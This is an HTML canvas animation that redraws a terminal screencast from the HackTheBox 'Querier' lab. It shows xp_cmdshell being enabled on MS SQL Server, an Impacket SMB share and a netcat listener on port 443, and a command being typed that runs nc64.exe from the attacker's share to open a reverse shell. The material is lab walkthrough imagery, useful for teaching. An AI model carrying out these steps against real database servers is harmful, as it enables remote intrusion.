
An HTML page with a canvas that plays this animation: 978x572 px, repeating every 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #06151b; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="978" height="572"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const W = 978, H = 572, LOOP = 8000;
const FONT_SIZE = 10.174, CELL = 6.125, ROW = 13.12, LEFT = 1, TOP = 59.2, BASELINE = 10.2;
const MONO = '"DejaVu Sans Mono", monospace', SANS = '"Noto Sans", sans-serif';
const WHITE = '#f9fafa', RED = '#e3262b', BLUE = '#729fcf', INK = '#0b1d0b';
const HOST = 'user@site', DIR = '~/hackthebox/querier-10.10.10.125';

// Keystrokes, one slot per TICK; empty slots are pauses.
const TYPE_START = 1700, TICK = 100;
const STROKES = String.raw`x||p||_||c||mdshell||||||| ||\||\||1||0.||1||0|.|1|4|.||1|4||||\||||a|\||||||n|c||||||6||4|.|e||x`.split('|');

const SQL_OUTPUT = `[*] Encryption required, switching to TLS
[*] ENVCHANGE(DATABASE): Old Value: master, New Value: master
[*] ENVCHANGE(LANGUAGE): Old Value: None, New Value: us_english
[*] ENVCHANGE(PACKETSIZE): Old Value: 4096, New Value: 16192
[*] INFO(QUERIER): Line 1: Changed database context to 'master'.
[*] INFO(QUERIER): Line 1: Changed language setting to us_english.
[*] ACK: Result: 1 - Microsoft SQL Server (140 3232)
[!] Press help for extra shell commands
SQL> enable_xp_cmdshell
[*] INFO(QUERIER): Line 185: Configuration option 'show advanced options' changed from 1 to 1. Run the RECONFIGURE statement to install.
[*] INFO(QUERIER): Line 185: Configuration option 'xp_cmdshell' changed from 1 to 1. Run the RECONFIGURE statement to install.
SQL> xp_cmdshell whoami
output
${'-'.repeat(80)}
querier\\mssql-svc
NULL`;

const SMB_OUTPUT = `Impacket v0.9.19-dev - Copyright 2018 SecureAuth Corporation

[*] Config file parsed
[*] Callback added for UUID 4B324FC8-1670-01D3-1278-5A47BF6EE188 V:3.0
[*] Callback added for UUID 6BFFD098-A112-3610-9833-46C3F87E345A V:1.0
[*] Config file parsed
[*] Config file parsed
[*] Config file parsed`;

const NCAT_OUTPUT = `Ncat: Version 7.70 ( https://nmap.org/ncat )
Ncat: Listening on :::443
Ncat: Listening on 0.0.0.0:443`;

function rect(x, y, w, h, fill) {
  ctx.fillStyle = fill;
  ctx.fillRect(x, y, w, h);
}

function disc(x, y, r, fill) {
  ctx.fillStyle = fill;
  ctx.beginPath();
  ctx.arc(x, y, r, 0, Math.PI * 2);
  ctx.fill();
}

function gradient(x0, y0, x1, y1, ...colors) {
  const g = ctx.createLinearGradient(x0, y0, x1, y1);
  colors.forEach((c, i) => g.addColorStop(i / (colors.length - 1), c));
  return g;
}

// Sets type at 100px and scales it evenly, so fractional sizes keep exact advances.
// Returns the width of the text.
function label(text, x, y, size, family, color, { bold = false, align = 'left' } = {}) {
  const scale = size / 100;
  ctx.save();
  ctx.translate(x, y);
  ctx.scale(scale, scale);
  ctx.font = `${bold ? 'bold ' : ''}100px ${family}`;
  ctx.textAlign = align;
  ctx.fillStyle = color;
  ctx.fillText(text, 0, 0);
  const width = ctx.measureText(text).width * scale;
  ctx.restore();
  return width;
}

function cells(text, col, row, color = WHITE, bold = false) {
  label(text, LEFT + col * CELL, TOP + row * ROW + BASELINE, FONT_SIZE, MONO, color, { bold });
}

function block(output, col, row) {
  output.split('\n').forEach((line, i) => cells(line, col, row + i));
}

function prompt(command, col, row) {
  const dirCol = col + HOST.length + 1;
  cells(HOST, col, row, RED, true);
  cells(':', dirCol - 1, row);
  cells(DIR, dirCol, row, BLUE, true);
  cells('# ' + command, dirCol + DIR.length, row);
}

function drawWindowButtons() {
  const y = 10.3, gap = 28, close = 962, r = 2.6;
  for (let i = 0; i < 3; i++) disc(close - i * gap, y, 7.2, '#494b4a');
  ctx.strokeStyle = '#e4e2df';
  ctx.lineWidth = 1.3;
  ctx.strokeRect(close - gap - r, y - r, 2 * r, 2 * r);
  ctx.beginPath();
  ctx.moveTo(close - 2 * gap - r, y);
  ctx.lineTo(close - 2 * gap + r, y);
  for (const side of [-r, r]) {
    ctx.moveTo(close - side, y - r);
    ctx.lineTo(close + side, y + r);
  }
  ctx.stroke();
}

function drawHeader() {
  rect(0, 0, W, 44.5, gradient(0, 0, 0, 44, '#dedbd8', '#d5d2ce', '#d9d6d3'));
  label(`${HOST}: ${DIR}`, 488, 14.6, 11.8, SANS, '#2e3436', { bold: true, align: 'center' });
  drawWindowButtons();
  let x = 7;
  for (const item of ['File', 'Edit', 'View', 'Search', 'Terminal', 'Help']) {
    x += label(item, x, 39.2, 12.6, SANS, '#3a3e40') + 14.8;
  }
}

function drawBackdrop() {
  rect(0, 44, W, H - 44, gradient(0, 430, 965, 170, '#030e14', '#0a1a20', '#0c1a20', '#07171e', '#03131b'));
  rect(0, 300, W, H - 300, gradient(0, 300, 0, H, 'rgba(0,8,12,0)', 'rgba(0,8,12,.4)'));
  disc(615, 160, 105, '#292424');
}

function drawScrollbar() {
  rect(965, 44, 13, H - 44, '#d0cdca');
  rect(965, 57, 13, 502, '#6d6966');
  for (const [y, dir] of [[50.5, -1], [565.5, 1]]) {
    ctx.fillStyle = '#a5a29f';
    ctx.beginPath();
    ctx.moveTo(968, y - dir * 1.7);
    ctx.lineTo(971, y + dir * 1.7);
    ctx.lineTo(974, y - dir * 1.7);
    ctx.fill();
  }
}

function drawTerminal(typed, cursorOn) {
  const entry = 'SQL> ' + typed;
  block(SQL_OUTPUT, 0, 0);
  cells(entry, 0, 16);
  if (cursorOn) rect(LEFT + entry.length * CELL, 269, CELL, 13, '#ffffff');

  rect(1, 288.5, 963, 1, '#4e9a2c');
  rect(512.7, 290, 1, 268, '#d3d7cf');
  prompt('smbserver.py -smb2support a smb/', 0, 18);
  block(SMB_OUTPUT, 0, 19);
  prompt('nc -lnvp 443', 84, 18);
  block(NCAT_OUTPUT, 84, 19);

  rect(1, 558, 963.5, 13, '#52a70e');
  cells('[1] 0:bash-Z 1:python* 2:ruby  3:bash  4:bash', 0, 38, INK);
  cells('"site" 16:18 18-Feb-19', 135, 38, INK);
}

function drawBeam() {
  for (const [grow, color] of [[0.8, '#f0f0f0'], [0, '#111111']]) {
    rect(142.5 - grow, 164 - grow, 1 + 2 * grow, 12.5 + 2 * grow, color);
    for (const y of [163.5, 176]) rect(140 - grow, y - grow, 6 + 2 * grow, 1 + 2 * grow, color);
  }
}

function drawArrow() {
  const arrow = new Path2D('M142.3 168.5v14l3-2.7 2.2 5.2 2.2-1-2.2-5 3.8-.4z');
  ctx.lineWidth = 1.4;
  ctx.strokeStyle = '#101417';
  ctx.stroke(arrow);
  ctx.fillStyle = '#ffffff';
  ctx.fill(arrow);
}

function draw(t) {
  const dimmed = t < 300;
  const slots = Math.max(0, Math.floor((t - TYPE_START) / TICK) + 1);
  const blinkOff = t >= 3100 && t < 3200;
  ctx.textRendering = 'geometricPrecision';
  drawBackdrop();
  drawHeader();
  drawTerminal(STROKES.slice(0, slots).join(''), !dimmed && !blinkOff);
  drawScrollbar();
  if (dimmed) {
    rect(0, 0, W, H, 'rgba(39,45,52,.74)');
    label('1', 488.5, 296, 26, '"DejaVu Sans", sans-serif', '#d9dadb', { align: 'center' });
    drawArrow();
  } else if (t < TYPE_START) {
    drawBeam();
  }
}

const start = performance.now();
function tick() {
  draw((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
